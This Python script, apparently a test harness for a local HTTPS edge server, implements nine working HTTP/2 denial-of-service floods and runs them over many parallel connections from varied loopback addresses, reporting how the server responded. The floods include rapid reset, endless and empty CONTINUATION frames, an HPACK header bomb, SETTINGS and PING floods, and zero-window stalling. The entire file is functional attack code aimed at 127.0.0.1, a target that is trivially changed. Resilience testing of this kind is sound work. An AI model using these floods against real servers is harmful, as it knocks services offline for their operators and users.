"""Attacks the site over HTTP/2, frame by frame, with an attack on each of several connections; runs on the host.

    h2.py '{"attack": "rapid reset", "connections": 10, "seconds": 3}'

Prints what became of each connection, as JSON: how many frames it has sent, how it ended (the error of a GOAWAY,
`closed`, or `open` when the time was over), and how many streams were answered.
"""

import json
import select
import socket
import ssl
import struct
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from itertools import cycle, islice

NAME = "edge.example.com"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
# Frames that are sent at once.
BATCH = 100


def frame(kind, flags, stream, payload=b""):
    """A frame as RFC 9113 has it."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    """A text of HPACK without Huffman's code, shorter than 127 bytes."""
    return bytes([len(value)]) + value


def request(path=b"/flood"):
    """The headers of a GET over HTTPS."""
    return b"\x82\x87\x04" + text(path) + b"\x01" + text(NAME.encode())


def streams():
    """The numbers of a client's streams."""
    yield from range(1, 2**31, 2)


def rapid_reset():
    """Ask, and take it back at once."""
    for stream in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, request())
        yield frame(RESET, 0, stream, struct.pack(">I", 8))


def continuation():
    """Headers that never end."""
    yield frame(HEADERS, END_STREAM, 1, request())
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00\x01a" + text(b"b" * 100))


def empty_continuation():
    """Headers that go on with nothing."""
    yield frame(HEADERS, END_STREAM, 1, request())
    yield from cycle([frame(CONTINUATION, 0, 1)])


def header_bomb():
    """A long header that is kept, and named again with one byte each."""
    kept = b"\x40\x01x\x7f" + bytes([0x80 | (3000 - 127) % 128, (3000 - 127) // 128]) + b"y" * 3000
    yield frame(HEADERS, END_STREAM, 1, request() + kept)
    yield from cycle([frame(CONTINUATION, 0, 1, b"\xbe" * 4000)])


def settings():
    """Settings, each of which wants an answer."""
    yield from cycle([frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))])


def ping():
    """Pings, each of which wants an answer."""
    yield from cycle([frame(PING, 0, 0, b"12345678")])


def empty_data():
    """A body that goes on with nothing."""
    yield frame(HEADERS, END_HEADERS, 1, request(b"/upload").replace(b"\x82", b"\x83", 1))
    yield from cycle([frame(DATA, 0, 1)])


def priority():
    """Streams that hang on one another, new each time."""
    for stream in cycle(islice(streams(), 1000)):
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", (stream + 2) % 2000 | 1, 16))


def no_window():
    """Many requests for answers that may not be sent."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    yield from (frame(HEADERS, END_STREAM | END_HEADERS, stream, request()) for stream in islice(streams(), 100))
    yield from cycle([frame(WINDOW, 0, 0, struct.pack(">I", 1))])


ATTACKS = {
    each.__name__.replace("_", " "): each
    for each in (
        *(rapid_reset, continuation, empty_continuation, header_bomb),
        *(settings, ping, empty_data, priority, no_window),
    )
}


def ended(received):
    """The last error of a GOAWAY in what was received, and how many streams were answered."""
    answered, error = 0, ""
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        kind, payload = received[3], received[9 : 9 + length]
        answered += kind == HEADERS
        if kind == GOAWAY and len(payload) >= 8:
            error = f"goaway {int.from_bytes(payload[4:8], 'big')}"
        received = received[9 + length :]
    return error, answered


def attack(name, seconds, source):
    """What became of one connection."""
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])
    sent, received, over, end = 0, bytearray(), False, time.monotonic() + seconds
    frames = ATTACKS[name]()
    with (
        socket.create_connection(("127.0.0.1", 443), 10, source_address=(source, 0)) as plain,
        context.wrap_socket(plain, server_hostname=NAME) as connection,
    ):
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        connection.settimeout(0.5)
        heard = True
        while not over and time.monotonic() < end:
            try:
                if heard:
                    connection.sendall(b"".join(islice(frames, BATCH)))
                    sent += BATCH
            except TimeoutError:
                heard = False  # The server reads no more, so a frame is half sent.
            except OSError:
                over = True
            try:
                while connection.pending() or select.select([connection], [], [], 0 if heard else 0.1)[0]:
                    part = connection.recv(65536)
                    over = over or not part
                    received += part
                    if not part:
                        break
            except OSError:
                over = True
    error, answered = ended(bytes(received))
    return {"sent": sent, "end": error or ("closed" if over else "open"), "answered": answered}


def main(ask):
    """Attack on all connections at once."""
    names = list(ATTACKS) if ask["attack"] == "all" else [ask["attack"]]
    with ThreadPoolExecutor(len(names) * ask["connections"]) as pool:
        running = {
            name: [
                pool.submit(attack, name, ask["seconds"], f"127.5.{number}.{which + 1}")
                for number in range(ask["connections"])
            ]
            for which, name in enumerate(names)
        }
        print(json.dumps({name: [each.result() for each in many] for name, many in running.items()}))


main(json.loads(sys.argv[1]))
